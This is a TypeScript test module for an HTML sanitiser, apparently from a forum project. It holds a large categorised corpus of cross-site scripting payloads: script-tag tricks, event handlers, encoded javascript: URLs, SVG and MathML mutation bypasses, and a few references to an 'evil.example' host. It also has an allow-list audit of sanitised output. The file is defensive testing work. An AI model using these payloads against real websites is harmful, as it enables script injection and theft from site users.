/** Markup that has run scripts in a browser in spite of a sanitiser, by technique, and a check of sanitised documents. */
import { type DefaultTreeAdapterMap, defaultTreeAdapter, parse, serialize, serializeOuter } from "parse5"

const scripts = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<script/src="data:,alert(1)">`,
  `<script\u0000>alert(1)</script>`,
  `<script><!--<script></script>--><img src=x onerror=alert(1)></script>`,
  `<scrİpt>alert(1)</scrİpt>`,
  `<body><script>alert(1)</script></body>`,
  `</script><script>alert(1)</script>`
]

const handlers = [
  `<img src=x onerror=alert(1)>`,
  `<img src=x onerror="alert(1)"//`,
  `<img/src=x/onerror=alert(1)>`,
  `<img\u000Csrc=x\u000Conerror=alert(1)>`,
  `<img src=x onerror\t=\talert(1)>`,
  `<img src='x'onerror=alert(1)>`,
  `<img """><script>alert(1)</script>">`,
  `<img src="x" alt="\`onerror=alert(1)">`,
  `<a onmouseover="alert(1)">x</a>`,
  `<p ONCLICK=alert(1)>x`,
  `<div style="width:expression(alert(1))">x</div>`,
  `<div style="background:url(javascript:alert(1))">x</div>`,
  `<body onload=alert(1)>x`,
  `<body/onload=alert(1)><body onpageshow=alert(2)>`,
  `<details open ontoggle=alert(1)>x</details>`,
  `<table background="javascript:alert(1)"><tr><td onclick=alert(1)>x`,
  `<b/x="><img src=x onerror=alert(1)>">x</b>`,
  `<a href="x" "onclick=alert(1)>x</a>`,
  `<p title="</p><img src=x onerror=alert(1)>">x</p>`,
  `<p title='"><img src=x onerror=alert(1)>'>x</p>`,
  `<p data-x"onclick=alert(1) data-<img=1>x</p>`,
  `<p data-x/onclick=alert(1)>x</p>`
]

const schemes = [
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="JaVaScRiPt:alert(1)">x</a>`,
  `<a href=" javascript:alert(1)">x</a>`,
  `<a href="\u0001\u001fjavascript:alert(1)">x</a>`,
  `<a href="java\tscript:alert(1)">x</a>`,
  `<a href="java\nscript:alert(1)">x</a>`,
  `<a href="java\r\nscript:alert(1)">x</a>`,
  `<a href="java&Tab;script&colon;alert(1)">x</a>`,
  `<a href="java&#x09;script:alert(1)">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
  `<a href="&#0000106avascript:alert(1)">x</a>`,
  `<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>`,
  `<a href="&NewLine;javascript:alert(1)">x</a>`,
  `<a href="java\u0000script:alert(1)">x</a>`,
  `<a href="javascript&#x3A;alert(1)">x</a>`,
  `<a href="\\u006aavascript:alert(1)">x</a>`,
  `<a href="javascript\u2028:alert(1)">x</a>`,
  `<a href="\u00a0javascript:alert(1)">x</a>`,
  `<a href="\ufeffjavascript:alert(1)">x</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="livescript:alert(1)">x</a>`,
  `<a href="view-source:javascript:alert(1)">x</a>`,
  `<a href="feed:javascript:alert(1)">x</a>`,
  `<a href="blob:https://evil.example/1">x</a>`,
  `<a href="file:///etc/passwd">x</a>`,
  `<a href="//evil.example/">x</a>`,
  `<a href="/\\evil.example/">x</a>`,
  `<a href="sdr:thread/d0q2m9k7h4v8s6e3b1c0">x</a>`,
  `<a href="x" href="javascript:alert(1)">x</a>`,
  `<a href=javascript:alert(1)//x>x</a>`,
  `<img src="javascript:alert(1)">`,
  `<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
  `<img src=x srcset="x, javascript:alert(1) 2x">`,
  `<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">`,
  `<blockquote cite="javascript:alert(1)">x</blockquote>`,
  `<area href="javascript:alert(1)" shape=rect coords="0,0,9,9">`,
  `<a xlink:href="javascript:alert(1)">x</a>`,
  `<a ping="https://evil.example/" href=x>x</a>`
]

const otherElements = [
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<iframe><img src=x onerror=alert(1)>`,
  `<object data="javascript:alert(1)"><img src=x onerror=alert(1)></object>`,
  `<embed src="javascript:alert(1)">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<base href="javascript:alert(1)//">`,
  `<link rel=stylesheet href="javascript:alert(1)">`,
  `<form action="javascript:alert(1)"><input type=submit><button formaction="javascript:alert(1)">x`,
  `<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>`,
  `<input type=image src=x onerror=alert(1)>`,
  `<isindex action="javascript:alert(1)" type=image>`,
  `<image src=x onerror=alert(1)>`,
  `<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<keygen autofocus onfocus=alert(1)>`,
  `<bgsound src="javascript:alert(1)"><layer src="x">`,
  `<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>`,
  `<?xml version="1.0"?><?import namespace="t" implementation="#x">`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`,
  `<portal src="javascript:alert(1)"></portal><dialog open onclose=alert(1)>x`
]

const mutations = [
  `<svg onload=alert(1)>`,
  `<svg/onload=alert(1)//`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
  `<svg><animate attributeName=href values="javascript:alert(1)"/></svg>`,
  `<svg><set attributeName=onload to=alert(1)></svg>`,
  `<svg></p><style><a id="</style><img src=x onerror=alert(1)>">`,
  `<svg><style><img title="</style><img src=x onerror=alert(1)>"></style></svg>`,
  `<svg><title><style><img src=x onerror=alert(1)></style></title></svg>`,
  `<svg><desc><noscript><a title="</noscript><img src=x onerror=alert(1)>">`,
  `<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>`,
  `<svg><textarea><img src=x onerror=alert(1)></textarea></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>`,
  `<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=alert(1)>">`,
  `<math href="javascript:alert(1)">x</math><math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<p><noscript></p><img src=x onerror=alert(1)></noscript>`,
  `<style><img title="</style><img src=x onerror=alert(1)>">`,
  `<textarea><img src=x onerror=alert(1)></textarea>`,
  `<textarea></textarea/><img src=x onerror=alert(1)>`,
  `<title><img title="</title><img src=x onerror=alert(1)>"></title>`,
  `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`,
  `<plaintext><img src=x onerror=alert(1)>`,
  `<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>`,
  `<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>`,
  `<template><img src=x onerror=alert(1)></template>`,
  `<template><template></template><script>alert(1)</script>`,
  `<select><style></select><img src=x onerror=alert(1)></style>`,
  `<select><option><script>alert(1)</script></option></select>`,
  `<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>`,
  `<table><style><img title="</style><img src=x onerror=alert(1)>"></table>`,
  `<table><td><a href=x><table><a href="javascript:alert(1)">x`,
  `<a href=1><table><a href=2><img src=x onerror=alert(1)>`,
  `<p id="</p><img src=x onerror=alert(1)>">`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<!---><img src=x onerror=alert(1)>-->`,
  `<!-- --!><img src=x onerror=alert(1)> -->`,
  `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
  `<![if !IE]><img src=x onerror=alert(1)><![endif]>`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;`,
  `<% <img src=x onerror=alert(1)> %>`,
  `</ <img src=x onerror=alert(1)>>`,
  `&lt;img src=x onerror=alert(1)&gt;`,
  `&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;`,
  `%3Cscript%3Ealert(1)%3C/script%3E`,
  `\\u003cscript\\u003ealert(1)\\u003c/script\\u003e`,
  `＜script＞alert(1)＜/script＞`,
  `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
  `<img src=x onerror=alert(1)`,
  `<a href="javascript:alert(1)`,
  `<p title="`,
  `<code class="language-js x onclick=alert(1)">x</code>`,
  `<pre class="language-js&quot; onclick=alert(1) x=&quot;">x</pre>`,
  `<ol start="javascript:alert(1)" reversed onclick=alert(1)><li>x</ol>`
]

export const xssCorpus = [...scripts, ...handlers, ...schemes, ...otherElements, ...mutations]

type Element = DefaultTreeAdapterMap["element"]

// The allow-list once more, so that a mistake in that of the implementation is found.
const elements = new Set(
  `a abbr acronym area article aside b bdi bdo blockquote br caption cite code col colgroup dd del details dfn
   div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hgroup hr i img ins kbd li mark meter ol p pre progress q rp
   rt ruby s samp section small span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul
   var wbr`.split(/\s+/)
)
const attributes =
  /^(dir|lang|title|data-[a-z0-9_.-]+|href|src|alt|width|height|align|cite|datetime|open|type|value|colspan|rowspan|scope|start|reversed|headers|valign|span|min|max|low|high|optimum|coords|shape|rel)$/
const protocols = ["http:", "https:", "mailto:", "sdr:"]

const bodyOf = (html: string): Element => {
  const root = parse(html).childNodes.find((node) => node.nodeName === "html")
  const body = root !== undefined && "childNodes" in root ? root.childNodes[1] : undefined
  if (body === undefined || !defaultTreeAdapter.isElementNode(body)) throw new Error("no body")
  return body
}

/** Adds what is not allowed below a node to `faults`; returns the depth of its elements. */
export const inspect = (element: Pick<Element, "childNodes">, faults: Array<string>): number => {
  let depth = 0
  for (const node of element.childNodes) {
    if (defaultTreeAdapter.isElementNode(node)) {
      inspectTag(node, faults)
      depth = Math.max(depth, 1 + inspect(node, faults))
    } else if (!defaultTreeAdapter.isTextNode(node)) faults.push(node.nodeName)
  }
  return depth
}

const inspectTag = ({ attrs, tagName }: Element, faults: Array<string>): void => {
  if (!elements.has(tagName)) faults.push(`<${tagName}>`)
  if (attrs.length === 0 && (tagName === "a" || tagName === "img")) faults.push(`bare <${tagName}>`)
  const nofollow = attrs.some(({ name, value }) => name === "rel" && value === "nofollow")
  for (const { name, value } of attrs) {
    const isLanguage =
      name === "class" &&
      /^(code|pre)$/.test(tagName) &&
      /^language-[\w+#.-]+( language-[\w+#.-]+)*$/.test(value)
    if (!attributes.test(name) && !isLanguage) faults.push(name)
    if (name === "start" && !/^-?\d+$/.test(value)) faults.push(`start=${value}`)
    if (name === "href" && !nofollow) faults.push("followed link")
    if (/^(href|src|cite)$/.test(name) && URL.canParse(value, "https://forum.example/")) {
      const { protocol } = new URL(value, "https://forum.example/")
      if (!protocols.includes(protocol)) faults.push(value)
    }
  }
}

/** A document as browsers parse it: what is not allowed in it, its depth, and the markup of the result. */
export const audit = (html: string) => {
  const body = bodyOf(`<!DOCTYPE html>${html}`)
  const faults: Array<string> = []
  const depth = inspect(body, faults)
  // Tables close paragraphs in only one of the two rendering modes; documents must not depend on it.
  if (serialize(bodyOf(html)) !== serialize(body)) faults.push("differs without doctype")
  return { depth, faults, markup: serializeOuter(body) }
}
